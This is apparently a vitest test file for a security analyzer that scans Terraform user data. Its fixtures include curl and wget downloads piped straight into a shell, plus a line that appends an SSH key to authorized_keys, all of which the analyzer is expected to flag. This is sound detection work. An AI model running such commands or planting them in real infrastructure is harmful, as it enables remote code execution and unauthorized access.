// User data is also a shell script (`#!` first line): cloud-init runs it as root at first boot.
import { describe, expect, it } from 'vitest';
import { cloudInitAnalyzer } from '../../../../src/core/analyzers/infrastructure/cloud-init.js';
import { runAnalyzer } from '../../../helpers/analyzers.js';

const found = (path: string, code: string) => runAnalyzer(cloudInitAnalyzer, { path, code }).map((f) => `${f.ruleId}@${f.line}`);

describe('shell-script user data', () => {
  it('reports a download piped into a shell in an aws_instance heredoc', () => {
    const code = 'resource "aws_instance" "web" {\n  ami = "ami-1"\n  user_data = <<-EOF\n    #!/bin/bash\n    yum install -y nginx\n    curl -fsSL https://get.example.net/agent.sh | bash\n  EOF\n}\n';
    expect(found('main.tf', code)).toEqual(['iac.cloud-init-remote-code@6']);
  });

  it('reports wget into sh in a GCE startup script', () => {
    const code = 'resource "google_compute_instance" "vm" {\n  metadata_startup_script = <<EOT\n#!/usr/bin/env bash\nwget -qO- http://203.0.113.9/a | sh\nEOT\n}\n';
    expect(found('gce.tf', code)).toEqual(['iac.cloud-init-remote-code@4']);
  });

  it('reports an SSH key appended to authorized_keys', () => {
    const code = 'resource "aws_instance" "b" {\n  user_data = <<-EOF\n    #!/bin/bash\n    echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ops" >> /home/ec2-user/.ssh/authorized_keys\n  EOF\n}\n';
    expect(found('b.tf', code)).toEqual(['iac.cloud-init-ssh-key@4']);
  });

  it('stays quiet on package installs and on a checksum-verified download', () => {
    expect(found('main.tf', 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    yum install -y nginx\n    systemctl enable --now nginx\n  EOF\n}\n')).toEqual([]);
    const verified = 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    curl -fsSLo /tmp/i.sh https://get.example.net/i.sh\n    echo "0f343b0931126a20f133d67c2b018a3b  /tmp/i.sh" | sha256sum -c -\n    bash /tmp/i.sh\n  EOF\n}\n';
    expect(found('main.tf', verified)).toEqual([]);
  });
});
